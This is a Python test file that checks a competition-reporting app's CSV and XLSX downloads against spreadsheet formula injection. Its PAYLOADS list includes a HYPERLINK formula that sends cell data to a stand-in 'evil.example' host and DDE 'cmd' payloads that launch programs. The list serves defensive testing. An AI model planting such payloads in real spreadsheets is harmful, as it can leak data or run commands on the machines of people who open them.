"""Formula injection: no text a person typed becomes a live formula in any spreadsheet we write.

Every text a user or a stranger controls (entry titles, unit, block,
criterion and phase names, a judge's reason, a failed sign-in's name, the
monthly report's narrative and signer) holds a formula; then every CSV and
XLSX download of the product is fetched and every one of its cells walked.
"""

from __future__ import annotations

import csv
import io
from datetime import date
from decimal import Decimal, InvalidOperation

import openpyxl
import pytest

from competition.extensions import db
from competition.models import MonthlyReport
from tests import factories

# The OWASP list (=, +, -, @, tab, carriage return), hidden behind spaces and a newline,
# and the full-width forms.
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Xem")', "+1+cmd|' /C calc'!A0", "-2+3+cmd|'/C x'!A0",
    "@SUM(1+1)*cmd|'/C calc'!A0", "\t=1+1", "\r=1+1", " =1+1", "\n=1+1", "  \t @SUM(A1)",
    "\uff1d1+1",
]
STARTS = set("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")
# The official result's table exists only once results are published (then it is written by
# the same `tables.table_download`); before that these answer 404.
AFTER_PUBLICATION = ["/ket-qua.csv", "/ket-qua.xlsx"]


def downloads(world) -> list[str]:
    """Every spreadsheet download of the product (the test below checks none is missing)."""
    slug = world.hoa_an.slug
    return [
        *(f"/bao-cao/xuat/{name}.{fmt}" for name in ("ket-qua", "xep-hang", "nhat-ky")
          for fmt in ("csv", "xlsx")),
        "/bang-xep-hang/huyen.csv", "/bang-xep-hang/huyen.xlsx",
        f"/bao-cao/{slug}/2021-04/tai-ve.xlsx", "/bao-cao/tong-hop/2021-04/tai-ve.xlsx",
        *AFTER_PUBLICATION,
    ]


def cells(response) -> list[object]:
    """Every cell value of a CSV or XLSX download."""
    assert response.status_code == 200, response.status_code
    if response.mimetype == "text/csv":
        text = response.data.decode("utf-8").removeprefix("\ufeff")
        return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
    workbook = openpyxl.load_workbook(io.BytesIO(response.data))
    found = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula"
                found.append(cell.value)
    return found


def is_number(text: str) -> bool:
    try:
        Decimal(text)
    except InvalidOperation:
        return False
    return True


def live(value: object) -> bool:
    """Would a spreadsheet read this cell as a formula?"""
    if not isinstance(value, str) or not value or is_number(value):
        return False
    return value[0] in STARTS or value.lstrip(" \t\r\n\u00a0")[:1] in STARTS


@pytest.fixture
def hostile_texts(world, visitor):
    drive = world.drive
    world.hoa_an.name = PAYLOADS[0]
    factories.block("huyen").name = PAYLOADS[1]
    factories.criterion(drive, "HN").name = PAYLOADS[2]
    for phase in drive.phases:
        phase.name = PAYLOADS[3]
    db.session.commit()
    for n, payload in enumerate(PAYLOADS):
        factories.entry(world.hoa_an, factories.criterion(drive, "HN"), 1 + n, status="verified",
                        title=payload, activity_date=date(2021, 4, 5 + n))
    returned = factories.entry(world.hoa_an, factories.criterion(drive, "SK"), 1,
                               status="submitted", title=PAYLOADS[5])
    from competition import lifecycle

    lifecycle.return_for_revision(returned, world.judge, PAYLOADS[4])
    db.session.commit()
    db.session.add(MonthlyReport(
        drive=drive, unit=world.hoa_an, month=date(2021, 4, 1), number=PAYLOADS[6],
        highlights=PAYLOADS[7], difficulties=PAYLOADS[8], proposals=PAYLOADS[9],
        signer_title=PAYLOADS[1], signer_name=PAYLOADS[0],
    ))
    db.session.commit()
    # A stranger needs no account to put a name in the audit log.
    for payload in PAYLOADS[:3]:
        visitor.post("/tai-khoan/dang-nhap", {"username": payload, "password": "x"})
    return world


def test_every_spreadsheet_download_is_listed(app, world):
    """Every route with a `<fmt>` is walked, unless it offers no spreadsheet format at all."""
    from competition.commendation.views import FORMATS as COMMENDATION_FORMATS

    assert not {"csv", "xlsx"} & set(COMMENDATION_FORMATS)  # Word and PDF documents only
    listed = {path.rsplit(".", 1)[0] for path in downloads(world)}
    for rule in app.url_map.iter_rules():
        if "<fmt>" in rule.rule and not rule.endpoint.startswith(("static", "commendation.")):
            stem = (rule.rule.replace("<fmt>", "").rstrip(".")
                    .replace("<slug>", world.hoa_an.slug).replace("<month_text>", "2021-04")
                    .replace("<block_code>", "huyen")
                    .replace("/dot/<drive_slug>", ""))  # the same board, of a named drive
            assert stem in listed, f"{rule.rule} ({rule.endpoint}) is not walked"


def test_no_cell_of_any_download_is_a_live_formula(hostile_texts, make_visitor):
    admin = make_visitor()
    admin.login("admin")
    met = 0
    for path in downloads(hostile_texts):
        response = admin.get(path)
        if path in AFTER_PUBLICATION and response.status_code == 404:
            continue
        values = cells(response)
        assert not [v for v in values if live(v)], path
        met_here = [v for v in values if isinstance(v, str) and v.startswith("'")
                    and any(p in v for p in PAYLOADS)]
        assert met_here, f"{path}: no hostile text reached this download"
        met += len(met_here)
    assert met > 40


def test_the_typed_text_is_kept_behind_one_apostrophe(hostile_texts, make_visitor):
    admin = make_visitor()
    admin.login("admin")
    titles = {row[9] for row in csv.reader(io.StringIO(
        admin.get("/bao-cao/xuat/ket-qua.csv").data.decode("utf-8").removeprefix("\ufeff"),
        newline=""))}
    assert {"'" + p for p in PAYLOADS} <= titles
    audit = cells(admin.get("/bao-cao/xuat/nhat-ky.xlsx"))
    assert "'" + PAYLOADS[1] in audit  # the stranger's sign-in name, as text


def test_numbers_and_ordinary_text_are_left_as_they_are(world, make_visitor):
    factories.entry(world.hoa_an, factories.criterion(world.drive, "SK"), 3, status="verified",
                    title="Sáng kiến - tiết kiệm điện")
    admin = make_visitor()
    admin.login("admin")
    rows = list(csv.reader(io.StringIO(
        admin.get("/bao-cao/xuat/ket-qua.csv").data.decode("utf-8").removeprefix("\ufeff"))))
    assert rows[1][9] == "Sáng kiến - tiết kiệm điện"
    assert rows[1][10] == "3"
    sheet = openpyxl.load_workbook(io.BytesIO(admin.get("/bao-cao/xuat/ket-qua.xlsx").data)).active
    assert sheet["K2"].value == 3
